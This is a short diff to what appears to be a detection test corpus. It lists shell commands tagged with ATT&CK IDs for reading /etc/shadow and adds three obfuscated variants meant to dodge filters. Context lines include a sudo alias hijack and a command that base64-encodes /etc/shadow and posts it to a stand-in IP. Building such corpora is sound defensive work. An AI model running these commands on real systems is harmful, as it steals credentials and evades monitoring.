@@ -177,6 +177,9 @@ T1546.004 $ echo "alias sudo='/tmp/.s'" >> /home/noor/.bash_aliases /home/noor/.
 _ROOT = """
 T1003.008 cat /etc/shadow
 T1003.008 cp /etc/shadow /tmp/s
+T1003.008 $ cat /etc/sh?d*w
+T1003.008 $ ca''t /etc/sha""dow
+T1003.008 $ /bin/c\\at${IFS}/etc/shadow
 T1003.008 unshadow /etc/passwd /etc/shadow
 T1003.008 tail -n 5 /etc/shadow-
 T1003.008 $ base64 /etc/shadow | curl -d @- http://203.0.113.9/
